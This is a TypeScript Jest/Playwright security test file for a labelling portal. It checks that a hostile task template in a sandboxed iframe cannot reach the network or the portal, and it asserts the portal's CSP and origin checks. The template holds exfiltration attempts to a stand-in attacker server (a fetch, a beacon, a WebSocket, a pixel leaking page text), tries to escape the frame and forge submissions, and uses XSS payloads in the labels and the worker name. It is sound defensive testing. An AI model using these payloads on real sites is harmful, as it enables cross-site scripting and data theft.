import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser } from 'playwright-core';
import { beginWork, launchBrowser, noBrowser, openContext, taskInSight } from '../browser.ts';
import { type PortalUnderTest, picture, startPortal } from '../portal-under-test.ts';

if (noBrowser) console.warn(noBrowser);

describe('a page that means harm', () => {
  let portal: PortalUnderTest;
  let browser: Browser | undefined;
  let stranger: Server;
  const heard: string[] = [];

  beforeAll(async () => {
    stranger = createServer(({ url }, response) => {
      heard.push(url ?? '');
      response.setHeader('access-control-allow-origin', '*').end(`<iframe src="${portal.url}"></iframe>`);
    });
    await new Promise<void>((listening) => stranger.listen(0, '127.0.0.1', listening));
    portal = await startPortal();
    if (!noBrowser) browser = await launchBrowser();
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    await portal.stop();
    stranger.closeAllConnections();
    await new Promise((closed) => stranger.close(closed));
  });

  const strangerUrl = () => `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;

  (noBrowser ? it.skip : it)(
    'reaches neither the network nor the portal from a template, and the task stays usable',
    async () => {
      const evil = strangerUrl();
      // A script that the template names is refused with the job; one that a script names is the sandbox's to stop.
      const template = `<link rel="stylesheet" href="${evil}/style.css"><img src="${evil}/image.png">
        <script>
          window.log = [];
          document.head.append(Object.assign(document.createElement('script'), { src: '${evil}/script.js' }));
          document.documentElement.append(Object.assign(document.createElement('iframe'), { src: '${evil}/frame' }));
          const attempt = (name, act) => Promise.resolve().then(act).then(() => log.push(name), () => {});
          attempt('fetch', () => fetch('${evil}/fetch'));
          attempt('api', () => fetch('${portal.url}/api/jobs'));
          navigator.sendBeacon('${evil}/beacon');
          attempt('socket', () => new Promise((open, fail) => { const socket = new WebSocket('${evil.replace('http', 'ws')}/socket'); socket.onopen = open; socket.onerror = fail; }));
          attempt('parent', () => parent.document.body.innerHTML);
          attempt('token', () => sessionStorage.length);
          new Worker('data:text/javascript,fetch("${evil}/worker")');
          attempt('popup', () => { if (!open('${evil}/popup')) throw 0; });
          attempt('top', () => { top.location = '${evil}/top'; });
          new Image().src = '${evil}/pixel?' + document.body.innerText;
          parent.postMessage({ type: 'submit', answer: 'forged' }, '*');
          parent.postMessage({ type: 'activate' }, '*');
          log.push('reached the end');
        </script>
        <form action="${evil}/form" method="post" id="form"></form>
        <crowd-form><crowd-bounding-box name="boundingBox" src="{{ task.input.taskObject | grant_read_access }}"
          header="{{ task.input.labels[0] }}" labels="{{ task.input.labels | to_json | escape }}"></crowd-bounding-box></crowd-form>`;
      const labels = [
        '<img src=x onerror="window.log.push(\'label\')">',
        '</script><script>log.push("label")</script>',
      ];
      await portal.createJob('Hostile', { template, labels, images: [await picture(400, 300, 9)] });
      const context = await openContext(browser!);
      const page = await context.newPage();
      await beginWork(page, portal.url, await portal.invite('mallory<script>'));
      const frame = await taskInSight(page);
      await page.keyboard.press('n');
      expect(await frame.locator('.boxes button').count()).toBe(1);
      const inFrame = await (await page.locator('iframe.in-sight').elementHandle())!.contentFrame();
      expect(await inFrame!.evaluate('log')).toEqual(['reached the end']);
      // Both leave an error page in the frame: the portal's policy stops the navigation, and the worker can decline.
      await inFrame!.evaluate(`form.submit(), location = '${evil}/navigated?stolen'`).catch(() => {});
      await page.getByRole('button', { name: 'Decline …' }).first().click();
      await page.getByRole('dialog').getByRole('button', { name: 'Decline …' }).click();
      // The job ends with its only task, sooner or later than the page asks for another one.
      await page.getByText(/All done|This job has ended/).waitFor();
      expect(new URL(page.url()).origin).toBe(portal.url);
      expect(context.pages()).toHaveLength(1);
      expect(heard).toEqual([]);
      await context.close();
    },
    60_000,
  );

  it('gets no answer from another origin or under another name, and cannot frame the portal', async () => {
    const ask = (path: string, headers: Record<string, string>) =>
      new Promise<number>((resolve, reject) => {
        request(`${portal.url}${path}`, { headers }, (response) => resolve(response.resume().statusCode!))
          .on('error', reject)
          .end();
      });
    expect(await ask('/', {})).toBe(200);
    expect(await ask('/', { host: 'rebound.evil.test' })).toBe(403);
    expect(await ask('/api/jobs', { host: 'rebound.evil.test' })).toBe(403);
    expect(await ask('/api/jobs', { origin: 'http://evil.test' })).toBe(403);
    expect(await ask('/api/jobs', { origin: 'null' })).toBe(403);
    expect(await ask('/api/jobs', { 'sec-fetch-site': 'cross-site' })).toBe(403);
    expect(await ask('/api/jobs', {})).toBe(401);
    const policy = (await fetch(portal.url)).headers.get('content-security-policy')!;
    expect(policy).toContain("frame-ancestors 'none'");
    const sandbox = /frame-src (\S+)/.exec(policy)![1]!;
    expect(sandbox).not.toBe(portal.url);
    const framePolicy = (await fetch(`${sandbox}/frame`)).headers.get('content-security-policy')!;
    expect(framePolicy).toContain("connect-src 'none'");
    expect(framePolicy).toContain('sandbox allow-scripts allow-forms');
    expect(framePolicy).toContain(`frame-ancestors ${portal.url}`);
    expect((await fetch(`${sandbox}/api/jobs`)).status).toBe(404);
  });
});
